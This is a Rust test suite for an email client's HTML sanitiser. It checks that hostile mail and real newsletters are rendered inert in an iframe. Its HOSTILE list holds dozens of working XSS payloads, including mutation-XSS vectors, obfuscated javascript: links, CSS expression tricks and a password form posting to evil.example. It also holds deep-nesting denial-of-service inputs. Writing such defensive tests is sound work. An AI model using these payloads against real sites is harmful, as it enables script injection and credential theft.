//! The sanitiser against hostile mail and real newsletters. Every output is also parsed the way
//! a browser would parse the iframe document (with scraper's html5ever, a different version
//! from ammonia's), and checked for anything that could run, load or escape.

use scraper::{Html, Selector};

use super::markup::{DROPPED_WITH_CONTENT, TAGS};
use super::*;

fn part(id: &str) -> Option<String> {
    (id == "logo@example.org").then(|| "/mail/INBOX/7/part/2".to_owned())
}

fn offline(html: &str) -> Cleaned {
    let cleaned = clean(
        html,
        &Policy {
            remote: false,
            cid: &part,
        },
    );
    assert_safe(html, &cleaned, false);
    cleaned
}

fn online(html: &str) -> Cleaned {
    let cleaned = clean(
        html,
        &Policy {
            remote: true,
            cid: &part,
        },
    );
    assert_safe(html, &cleaned, true);
    assert_eq!(cleaned.remote_blocked, 0, "{html}");
    cleaned
}

const DOCUMENT_ELEMENTS: [&str; 6] = ["html", "head", "body", "meta", "base", "style"];

/// Parses the iframe document like a browser and fails on anything that could run script,
/// leave the HTML namespace, navigate somewhere odd or (unless allowed) load from the web.
fn assert_safe(input: &str, cleaned: &Cleaned, remote_allowed: bool) {
    let doc = document(cleaned);
    let parsed = Html::parse_document(&doc);
    let context = format!("input: {input}\noutput: {doc}");
    let is_remote = |v: &str| v.contains("http:") || v.contains("https:") || v.contains("//");
    for node in parsed.tree.nodes() {
        let Some(element) = node.value().as_element() else {
            continue;
        };
        let name = element.name();
        assert_eq!(
            &*element.name.ns, "http://www.w3.org/1999/xhtml",
            "<{name}> left the HTML namespace\n{context}"
        );
        if DOCUMENT_ELEMENTS.contains(&name) {
            // Posta's own; that the message adds none is checked below.
            continue;
        }
        assert!(TAGS.contains(&name), "<{name}> is not allowed\n{context}");
        for (attribute, value) in element.attrs() {
            let value = value.to_ascii_lowercase();
            assert!(
                !attribute.starts_with("on")
                    && !["srcset", "srcdoc", "action", "formaction", "ping", "name"]
                        .contains(&attribute)
                    && !attribute.contains(':'),
                "{name}[{attribute}]\n{context}"
            );
            for bad in [
                "javascript:",
                "vbscript:",
                "data:text",
                "expression",
                "binding",
                "behavior",
                "import",
            ] {
                assert!(
                    !value.contains(bad),
                    "{name}[{attribute}] has {bad}\n{context}"
                );
            }
            match (name, attribute) {
                ("a", "href") => assert!(
                    ["http://", "https://", "mailto:"]
                        .iter()
                        .any(|s| value.starts_with(s)),
                    "a[href={value}]\n{context}"
                ),
                ("img", "src") | (_, "background") => assert!(
                    value.starts_with("/mail/")
                        || value.starts_with("data:image/")
                        || (remote_allowed
                            && (value.starts_with("https://") || value.starts_with("http://"))),
                    "{name}[{attribute}={value}]\n{context}"
                ),
                _ => assert!(
                    remote_allowed || !is_remote(&value),
                    "{name}[{attribute}={value}] is remote\n{context}"
                ),
            }
        }
        if name == "a" {
            assert_eq!(
                element.attr("rel"),
                Some("noopener noreferrer"),
                "{context}"
            );
            assert_eq!(element.attr("target"), Some("_blank"), "{context}");
        }
    }
    for (element, count) in [("html, head, body", 3), ("meta", 2), ("base", 1)] {
        let selector = Selector::parse(element).unwrap();
        assert_eq!(
            parsed.select(&selector).count(),
            count,
            "{element}\n{context}"
        );
    }
    let styles: Vec<_> = parsed.select(&Selector::parse("style").unwrap()).collect();
    assert_eq!(styles.len(), 1, "the style element was split\n{context}");
    let sheet: String = styles[0].text().collect();
    assert_eq!(sheet, format!("{BASE_CSS}{}", cleaned.css), "{context}");
    let css = cleaned.css.to_ascii_lowercase();
    assert!(!css.contains('<'), "{context}");
    for bad in [
        "javascript",
        "expression",
        "binding",
        "behavior",
        "@import",
        "position:fixed",
    ] {
        assert!(!css.contains(bad), "css has {bad}\n{context}");
    }
    assert!(remote_allowed || !is_remote(&css), "remote css\n{context}");
    let scripts = Selector::parse("script, iframe, object, embed, svg, math, form").unwrap();
    assert_eq!(parsed.select(&scripts).count(), 0, "{context}");
}

/// Markup that tries to run script, in every way the corpus knows. Each must come out inert.
pub(super) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"javascript:alert(1)\"><img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"jav\tascript:alert(1)\"><img dynsrc=\"javascript:alert(1)\" lowsrc=\"javascript:alert(1)\">",
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><set attributeName=onload to=alert(1) /></svg>",
    "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title><textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset><applet code=X></applet>",
    "<form action=\"http://evil.example/steal\"><input name=p type=password><button formaction=\"javascript:alert(1)\">Go</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><base href=\"javascript:alert(1)//\">",
    "<link rel=import href=\"http://evil.example/x.html\"><link rel=stylesheet href=\"javascript:alert(1)\">",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"behavior:url(#default#time2); -moz-binding:url(http://evil.example/x.xml#y)\">x</div>",
    "<div style=\"width:expr/**/ession(alert(1)); background:u\\72l(javascript:alert(1))\">x</div>",
    "<div style='x:\"</style><script>alert(1)</script>'>x</div>",
    "<style>p{background:url(javascript:alert(1))} *{behavior:url(x.htc)} div{width:expression(alert(1))}</style>",
    "<style>@import url(http://evil.example/a.css); \\40 import url(http://evil.example/b.css);</style>",
    "<style>p{font-family:'</style><script>alert(1)</script>'}</style><p>x</p>",
    "<style></style><script>alert(1)</script><style></style>",
    "<style>a{}</STYLE ><img src=x onerror=alert(1)>",
    "<a href=\"#\" onclick=\"alert(1)\" onmouseover=alert(1) style=\"color:red\">x</a>",
    "<!--<img src=x onerror=alert(1)>--><!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<img src=`x`onerror=alert(1)><img/src=x/onerror=alert(1)>",
    "<a href=\"http://ok.example/\" \"onclick=alert(1)\">x</a>",
    "<table background=\"javascript:alert(1)\"><tr><td background=\"vbscript:x\">x</td></tr></table>",
    "<div id=\"__proto__\" name=\"getElementById\" class=\"x\" data-x=\"1\" aria-label=\"y\">x</div>",
];

#[test]
fn the_hostile_corpus_comes_out_inert() {
    for html in HOSTILE {
        offline(html);
        online(html);
    }
}

#[test]
fn event_handlers_are_stripped_from_every_element() {
    for tag in TAGS.iter().chain(DROPPED_WITH_CONTENT).chain(&[
        "form", "input", "button", "video", "audio", "body", "object", "details", "marquee",
    ]) {
        let html = format!(
            "<{tag} onclick=alert(1) onerror=alert(1) onload=alert(1) onmouseover=alert(1) \
             onfocus=alert(1) autofocus>text</{tag}>"
        );
        let cleaned = offline(&html);
        assert!(
            !cleaned.body.contains("alert"),
            "{html} -> {}",
            cleaned.body
        );
    }
}

#[test]
fn scripts_and_their_text_are_gone() {
    let cleaned = offline("<p>Hello from HTML</p><script>alert(1)</script>");
    assert_eq!(cleaned.body, "<p>Hello from HTML</p>");
}

#[test]
fn obfuscated_script_links_lose_their_href_but_keep_their_text() {
    for html in &HOSTILE[5..14] {
        let cleaned = offline(html);
        // (Attribute order depends on what ammonia removed; `assert_safe` checked rel and target.)
        assert!(!cleaned.body.contains("href"), "{html} -> {}", cleaned.body);
        assert!(
            cleaned.body.ends_with(">x</a>"),
            "{html} -> {}",
            cleaned.body
        );
    }
}

#[test]
fn links_open_a_new_tab_without_a_referrer() {
    let cleaned = offline("<a href=\"https://example.org/?a=1&amp;b=2\" target=_self>x</a>");
    assert_eq!(
        cleaned.body,
        "<a href=\"https://example.org/?a=1&amp;b=2\" target=\"_blank\" \
         rel=\"noopener noreferrer\">x</a>"
    );
}

#[test]
fn protocol_relative_links_become_https_and_such_images_wait_for_consent() {
    let html = "<a href=\"//evil.example/x\">l</a><img src=\"//evil.example/p.gif\">";
    let cleaned = offline(html);
    assert!(cleaned.body.contains("href=\"https://evil.example/x\""));
    assert!(!cleaned.body.contains("p.gif"));
    assert_eq!(cleaned.remote_blocked, 1);
    let cleaned = online(html);
    assert!(
        cleaned
            .body
            .contains("<img src=\"https://evil.example/p.gif\">")
    );
}

#[test]
fn relative_and_fragment_links_lose_their_href() {
    let cleaned =
        offline("<a href=\"/logout\">a</a><a href=\"#top\">b</a><img src=\"/mail/INBOX/1\">");
    assert!(!cleaned.body.contains("href"), "{}", cleaned.body);
    assert!(!cleaned.body.contains("src"), "{}", cleaned.body);
}

#[test]
fn mail_links_stay() {
    let cleaned = offline("<a href=\"mailto:someone@example.org?subject=Hi\">x</a>");
    assert!(
        cleaned
            .body
            .contains("href=\"mailto:someone@example.org?subject=Hi\"")
    );
}

#[test]
fn forms_lose_their_controls_but_keep_their_words() {
    let cleaned = offline(
        "<form action=\"http://evil.example/steal\"><p>Your password:</p>\
         <input type=password name=p><input type=image src=\"http://evil.example/i.png\">\
         <button type=submit>Send</button><select><option>A</option></select></form>",
    );
    assert_eq!(cleaned.body, "<p>Your password:</p>Send");
    assert_eq!(cleaned.remote_blocked, 1);
}

#[test]
fn meta_refresh_and_base_are_gone() {
    let cleaned = offline(
        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">\
         <base href=\"http://evil.example/\"><p>x</p>",
    );
    assert_eq!(cleaned.body, "<p>x</p>");
    assert_eq!(cleaned.remote_blocked, 0);
}

#[test]
fn embedded_content_is_gone_and_not_offered_as_remote_content() {
    let cleaned = offline(
        "<object data=\"http://evil.example/x.swf\"><param name=movie value=x>fallback</object>\
         <embed src=\"http://evil.example/y.swf\"><iframe src=\"http://evil.example/\">inner</iframe>\
         <iframe srcdoc=\"<p>x</p>\"></iframe><frameset><frame src=\"http://evil.example/f\"></frameset>",
    );
    assert_eq!(cleaned.body, "fallback");
    assert_eq!(cleaned.remote_blocked, 0);
}

#[test]
fn media_elements_are_dropped_keeping_their_fallback() {
    let html = "<video poster=\"http://x.example/p.jpg\" src=\"http://x.example/v.mp4\">\
                <source src=\"http://x.example/v.webm\"><img src=\"cid:logo@example.org\" alt=\"Watch\">\
                </video><audio src=\"http://x.example/a.mp3\"></audio>";
    let cleaned = offline(html);
    assert_eq!(
        cleaned.body,
        "<img src=\"/mail/INBOX/7/part/2\" alt=\"Watch\">"
    );
    assert_eq!(cleaned.remote_blocked, 4);
    assert_eq!(online(html).body, cleaned.body);
}

#[test]
fn inline_svg_and_mathml_are_gone_with_their_content() {
    let cleaned = offline(
        "<p>a</p><svg width=10><image href=\"http://x.example/i.png\" /><text>svg text</text></svg>\
         <math><mi>x</mi></math><p>b</p>",
    );
    assert_eq!(cleaned.body, "<p>a</p><p>b</p>");
    assert_eq!(cleaned.remote_blocked, 1);
}

/// One remote loader per row, each left out and counted once when remote content is off.
pub(super) const REMOTE_LOADERS: &[&str] = &[
    "<img src=\"http://x.example/a.png\" alt=a>",
    "<img src=\"cid:logo@example.org\" srcset=\"http://x.example/a.png 1x, http://x.example/b.png 2x\">",
    "<picture><source srcset=\"https://x.example/a.webp\" type=image/webp><img src=\"cid:logo@example.org\"></picture>",
    "<body background=\"http://x.example/bg.png\"><p>x</p>",
    "<table background=\"http://x.example/bg.png\"><tr><td>x</td></tr></table>",
    "<table><tr><td background=\"https://x.example/bg.png\">x</td></tr></table>",
    "<p style=\"background-image: url('http://x.example/bg.png')\">x</p>",
    "<p style=\"background: #fff u\\72l(http://x.example/bg.png)\">x</p>",
    "<style>p { background: url(http://x.example/bg.png) }</style><p>x</p>",
    "<style>@import url(http://x.example/a.css);</style><p>x</p>",
    "<style>@import 'https://x.example/a.css' screen;</style><p>x</p>",
    "<style>@font-face { font-family: f; src: url(https://x.example/f.woff2) }</style><p>x</p>",
    "<link rel=stylesheet href=\"http://x.example/a.css\"><p>x</p>",
    "<video poster=\"http://x.example/p.jpg\"></video>",
    "<input type=image src=\"http://x.example/i.png\">",
    "<svg><image href=\"http://x.example/i.png\" /></svg>",
    "<svg><image xlink:href=\"http://x.example/i.png\" /></svg>",
    "<ul><li style=\"list-style-image:url(//x.example/dot.png)\">x</li></ul>",
];

#[test]
fn every_remote_loader_is_left_out_and_counted_once() {
    for html in REMOTE_LOADERS {
        let cleaned = offline(html);
        assert_eq!(cleaned.remote_blocked, 1, "{html}");
        assert!(
            !cleaned.body.contains("x.example"),
            "{html} -> {}",
            cleaned.body
        );
        assert!(
            !cleaned.css.contains("x.example"),
            "{html} -> {}",
            cleaned.css
        );
        online(html);
    }
}

#[test]
fn remote_images_and_css_load_once_the_person_agrees() {
    let cleaned = online(
        "<body background=\"http://x.example/body.png\"><img src=\"http://x.example/a.png\">\
         <table><tr><td background=\"https://x.example/td.png\">x</td></tr></table>\
         <p style=\"background:url(http://x.example/p.png)\">x</p>\
         <style>div{background-image:url(https://x.example/div.png)} \
         @font-face{font-family:f;src:url(https://x.example/f.woff2)}</style>",
    );
    for url in [
        "src=\"http://x.example/a.png\"",
        "background=\"https://x.example/td.png\"",
        "style=\"background:url(&quot;http://x.example/p.png&quot;)\"",
    ] {
        assert!(cleaned.body.contains(url), "{url} in {}", cleaned.body);
    }
    for url in [
        "body{background-image:url(\"http://x.example/body.png\")}",
        "div{background-image:url(\"https://x.example/div.png\")}",
        "@font-face{font-family:f;src:url(\"https://x.example/f.woff2\")}",
    ] {
        assert!(cleaned.css.contains(url), "{url} in {}", cleaned.css);
    }
}

#[test]
fn cid_references_everywhere_point_at_the_inline_part() {
    let cleaned = offline(
        "<img src=\"cid:logo@example.org\"><img src=\"CID:%3Clogo%40example.org%3E\">\
         <img src=\"cid:missing@example.org\" alt=gone>\
         <table background=\"cid:logo@example.org\"><tr><td>x</td></tr></table>\
         <div style=\"background:url(cid:logo@example.org)\">x</div>\
         <style>.x{background:url('cid:logo%40example.org')}</style>",
    );
    assert_eq!(cleaned.body.matches("/mail/INBOX/7/part/2").count(), 4);
    assert!(
        cleaned.body.contains("<img alt=\"gone\">"),
        "{}",
        cleaned.body
    );
    assert_eq!(
        cleaned.css,
        ".x{background:url(\"/mail/INBOX/7/part/2\")}\n"
    );
    assert_eq!(cleaned.remote_blocked, 0);
}

#[test]
fn only_raster_data_images_are_shown() {
    let cleaned = offline(
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img src=\"data:image/svg+xml;base64,PHN2Zz4=\">\
         <img src=\"data:text/html,x\">",
    );
    assert_eq!(
        cleaned.body,
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\"><img><img>"
    );
}

#[test]
fn newsletter_layout_survives() {
    let html = "<center><table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" \
                align=\"center\" bgcolor=\"#ffffff\" class=\"wrapper\" style=\"max-width:600px\">\
                <tr><td align=\"left\" valign=\"top\" colspan=\"2\" style=\"padding:10px 20px;\
                font-family:Arial,sans-serif\"><font color=\"#333333\" face=\"Arial\" size=\"2\">\
                <b>Hello</b> <span class=\"muted\">there</span></font></td></tr></table></center>";
    let cleaned = offline(html);
    assert_eq!(
        cleaned.body,
        "<center><table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" \
         align=\"center\" bgcolor=\"#ffffff\" class=\"wrapper\" style=\"max-width:600px\">\
         <tbody><tr><td align=\"left\" valign=\"top\" colspan=\"2\" \
         style=\"padding:10px 20px;font-family:Arial,sans-serif\"><font color=\"#333333\" \
         face=\"Arial\" size=\"2\"><b>Hello</b> <span class=\"muted\">there</span></font>\
         </td></tr></tbody></table></center>"
    );
}

#[test]
fn style_sheets_are_kept_and_ids_follow_their_prefix() {
    let cleaned = offline(
        "<html><head><style type=\"text/css\"><!-- #main { width: 600px } \
         @media only screen and (max-width: 480px) { .col { display: block !important } } --></style>\
         </head><body><div id=\"main\" class=\"col\">x</div></body></html>",
    );
    assert_eq!(cleaned.body, "<div id=\"posta-main\" class=\"col\">x</div>");
    assert_eq!(
        cleaned.css,
        "#posta-main{width:600px}\n@media only screen and (max-width:480px){\n\
         .col{display:block!important}\n}\n"
    );
}

#[test]
fn the_body_tag_colours_become_a_body_rule() {
    let cleaned = offline(
        "<body bgcolor=\"f4f4f4\" text=\"#222\" style=\"margin:0; position:fixed\"><p>x</p></body>",
    );
    assert_eq!(
        cleaned.css,
        "body{background-color:#f4f4f4;color:#222;margin:0}\n"
    );
}

#[test]
fn escaped_css_is_read_the_way_a_browser_reads_it() {
    let cleaned = offline(
        "<style>\\40 import url(http://x.example/a.css); p{color:red} \
         q{background:u\\72l(http://x.example/b.png) blue; width:e\\78pression(alert(1))}</style>",
    );
    assert_eq!(cleaned.css, "q{background:none blue}\n");
    assert_eq!(cleaned.remote_blocked, 2);
}

#[test]
fn style_text_cannot_leave_the_style_element() {
    let cleaned = offline(
        "<style>p{font-family:\"</style><script>alert(1)</script>\"} \
         p:after{color:red;}</style ><!--</style>--><p>x</p>",
    );
    assert!(!cleaned.css.contains('<'), "{}", cleaned.css);
}

#[test]
fn titles_and_head_content_are_not_shown() {
    let cleaned = offline(
        "<html><head><title>Secret subject</title><meta charset=utf-8></head><body>Hi</body></html>",
    );
    assert_eq!(cleaned.body, "Hi");
}

#[test]
fn comments_including_conditional_ones_are_gone() {
    let cleaned = offline("<!--[if mso]><table><tr><td><![endif]--><p>x</p><!-- tracking -->");
    assert_eq!(cleaned.body, "<p>x</p>");
}

#[test]
fn the_document_wraps_body_and_css() {
    let cleaned = Cleaned {
        body: "<p>x</p>".into(),
        css: "p{color:red}\n".into(),
        remote_blocked: 0,
    };
    assert_eq!(
        document(&cleaned),
        format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><meta name=\"referrer\" \
             content=\"no-referrer\"><base target=\"_blank\"><style>{BASE_CSS}p{{color:red}}\n\
             </style></head><body><p>x</p></body></html>"
        )
    );
}

#[test]
fn the_document_refuses_css_that_could_close_its_style_element() {
    let cleaned = Cleaned {
        body: String::new(),
        css: "</style><script>alert(1)</script>".into(),
        remote_blocked: 0,
    };
    assert!(!document(&cleaned).contains("script"));
}

/// A newsletter-shaped document of about `bytes`: nested tables, inline styles, images.
fn newsletter(bytes: usize) -> String {
    let mut html = String::from(
        "<html><head><style>body{margin:0} .col{width:100%} #main td{padding:4px} \
         @media (max-width:600px){.col{display:block!important}}</style></head>\
         <body bgcolor=\"#eeeeee\"><table id=\"main\" width=\"600\" align=\"center\">",
    );
    let mut i = 0;
    while html.len() < bytes {
        html.push_str(&format!(
            "<tr><td class=\"col\" style=\"padding:10px;font-family:Arial,sans-serif;\
             color:#333;background:url(http://cdn.example/bg{i}.png) #fff\" valign=\"top\">\
             <a href=\"https://shop.example/item/{i}?utm_source=mail\"><img src=\"http://cdn.example/{i}.jpg\" \
             width=\"280\" alt=\"Item {i}\" style=\"display:block;border:0\"></a>\
             <p style=\"margin:0 0 8px;font-size:14px;line-height:1.4\">Item {i} &amp; friends, \
             now with <b>more</b> text to read.</p></td></tr>"
        ));
        i += 1;
    }
    html.push_str("</table></body></html>");
    html
}

#[test]
fn a_newsletter_counts_every_remote_image() {
    let html = newsletter(20_000);
    let items = html.matches("<tr>").count();
    let cleaned = offline(&html);
    assert_eq!(cleaned.remote_blocked, 2 * items);
    assert_eq!(cleaned.body.matches("<img").count(), items);
}

/// Cleans `html` on a tokio worker's stack (both policies, so remote loads are counted
/// too), returning the iframe document made without remote content.
fn clean_on_a_worker_stack(html: String) -> String {
    crate::message::on_a_worker_stack(move || {
        let policy = |remote| Policy { remote, cid: &part };
        let _ = document(&clean(&html, &policy(true)));
        document(&clean(&html, &policy(false)))
    })
}

/// CSS nested a hundred thousand deep, in every place mail carries it: functions and
/// blocks in a `style` attribute (`a(a(a(…`), and `@media`, nested rules and functions in
/// a `<style>` sheet. Everything past the cleaner's depth goes; nothing recurses per level.
#[test]
fn css_nested_a_hundred_thousand_deep_is_dropped_without_recursion() {
    let n = 100_000;
    let attribute = format!(
        "<p style=\"color:red;width:{}1px{};margin:{}0{}\">x</p>",
        "calc(".repeat(n),
        ")".repeat(n),
        "a([{".repeat(n),
        "}])".repeat(n),
    );
    let doc = clean_on_a_worker_stack(attribute);
    assert!(doc.ends_with("<body><p style=\"color:red\">x</p></body></html>"));

    let sheet = format!(
        "<style>p{{color:blue}}{}p{{color:red}}{} q{{width:{}1px{}}} \
         s{{{}}}</style><p>x</p>",
        "@media screen{".repeat(n),
        "}".repeat(n),
        "url(".repeat(n),
        ")".repeat(n),
        "{a{".repeat(n),
    );
    let doc = clean_on_a_worker_stack(sheet);
    assert!(doc.contains("p{color:blue}"), "{doc:.300}");
    assert!(!doc.contains("color:red") && !doc.contains("url("));
}

/// How deep the elements of `html` nest, outside comments and raw text (ammonia's output
/// has neither).
fn nesting(html: &str) -> usize {
    const VOID: [&str; 6] = ["br", "col", "hr", "img", "meta", "wbr"];
    let (mut depth, mut deepest) = (0usize, 0);
    for tag in html.split('<').skip(1) {
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        if tag.starts_with('/') {
            depth = depth.saturating_sub(1);
        } else if !VOID.contains(&name.as_str()) && !name.is_empty() {
            depth += 1;
            deepest = deepest.max(depth);
        }
    }
    deepest
}

/// Markup nested a hundred thousand deep, of every kind the tree builder treats its own way
/// (blocks that close paragraphs, formatting, tables, lists, misnested end tags): parsed,
/// cleaned, serialised and dropped on a worker's stack, in time linear in its length, and
/// no deeper than browsers nest (the vendored html5ever stops at 512 open elements; before,
/// 16,000 `<div>`s took a minute and a hundred thousand would take hours).
#[test]
fn html_nested_a_hundred_thousand_deep_stops_where_browsers_stop() {
    for (open, close, n) in [
        ("<div>", "</div>", 100_000),
        ("<span><div>", "</span>", 100_000),
        ("<blockquote>", "", 20_000),
        ("<b>", "", 20_000),
        ("<table><tr><td>", "", 20_000),
        ("<ul><li>", "", 20_000),
        ("<i><p>", "</i>", 20_000),
    ] {
        let html = format!("{}deep{}<p>after</p>", open.repeat(n), close.repeat(n));
        let doc = crate::message::on_a_worker_stack(move || {
            let policy = Policy {
                remote: false,
                cid: &part,
            };
            document(&clean(&html, &policy))
        });
        let body = &doc[doc.find("<body>").unwrap()..];
        assert!(body.contains("deep") && body.contains("after"), "{open}");
        let depth = nesting(body);
        assert!(depth <= 512 + 64, "{open}: nested {depth} deep");
    }
}

/// Formatting elements that the spec reopens in every block that follows (here 64 of them,
/// then ten thousand blocks): what is re-created is bounded, so 120 KB of mail cannot
/// become a gigabyte of page.
#[test]
fn reopened_formatting_cannot_multiply_a_message() {
    let mut html = String::from("<div>");
    for i in 0..64 {
        html.push_str(&format!("<b class=c{i}>"));
    }
    html.push_str("</div>");
    html.push_str(&"<div>x</div>".repeat(10_000));
    let size = html.len();
    let doc = clean_on_a_worker_stack(html);
    assert!(doc.len() < 30 * size, "{size} bytes became {}", doc.len());
    // Within the budget, the first blocks are bold as the spec makes them.
    assert!(
        doc.contains("<div><b class=\"c0\"><b class=\"c1\">"),
        "{:.400}",
        &doc[600..]
    );
}
